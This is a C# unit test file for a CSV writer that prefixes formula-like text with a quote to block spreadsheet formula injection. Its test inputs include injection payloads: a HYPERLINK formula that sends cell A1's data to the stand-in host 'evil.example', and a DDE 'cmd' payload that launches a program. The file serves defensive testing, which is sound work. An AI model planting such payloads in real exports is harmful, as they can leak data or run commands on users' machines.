using DataApps.Testing;
using Microsoft.Data.Analysis;

namespace DataApps.Core.Tests.Data;

public sealed class CsvFormulaTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"")]
    [InlineData("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    public void TextThatASpreadsheetWouldRunAsAFormulaGetsAQuotePrefix(string text, string field)
    {
        var frame = new DataFrame(new StringDataFrameColumn("s", [text]));

        Assert.Equal($"s\n{field}\n", Csv.WriteText(frame));
    }

    [Fact]
    public void NumbersDatesAndPlainNumberTextStayAsTheyAre()
    {
        var frame = new DataFrame(
            new DoubleDataFrameColumn("d", [-1.5]),
            new Int32DataFrameColumn("i", [-3]),
            new StringDataFrameColumn("s", ["-5"]),
            new StringDataFrameColumn("t", ["+1.5e3"]),
            new StringDataFrameColumn("u", ["a=b"]));

        Assert.Equal("d,i,s,t,u\n-1.5,-3,-5,+1.5e3,a=b\n", Csv.WriteText(frame));
    }

    [Fact]
    public void AColumnNameThatIsAFormulaIsNeutralisedToo()
    {
        var frame = new DataFrame(new Int32DataFrameColumn("=1+1", [1]));

        Assert.Equal("'=1+1\n1\n", Csv.WriteText(frame));
    }

    [Fact]
    public void EscapeFormulasFalseWritesTextUnchanged()
    {
        var frame = new DataFrame(new StringDataFrameColumn("s", ["=1+1", "-abc"]));

        Assert.Equal("s\n=1+1\n-abc\n", Csv.WriteText(frame, new CsvOptions { EscapeFormulas = false }));
    }

    [Fact]
    public async Task ADownloadedFrameHasItsFormulaCellsNeutralisedUnlessTheOptionsSayOtherwise()
    {
        var frame = new DataFrame(new StringDataFrameColumn("name", ["=HYPERLINK(\"https://evil.example\")"]), new DoubleDataFrameColumn("x", [-2]));
        using var app = AppTest.FromFunction(ui =>
        {
            ui.DownloadButton("Safe", frame, "a.csv");
            ui.DownloadButton("Raw", DownloadData.FromDataFrame(frame, new CsvOptions { EscapeFormulas = false }), "b.csv");
        });

        await app.RunAsync();

        Assert.Equal("name,x\n\"'=HYPERLINK(\"\"https://evil.example\"\")\",-2\n", app.DownloadButton("Safe").ReadText());
        Assert.Equal("name,x\n\"=HYPERLINK(\"\"https://evil.example\"\")\",-2\n", app.DownloadButton("Raw").ReadText());
    }
}
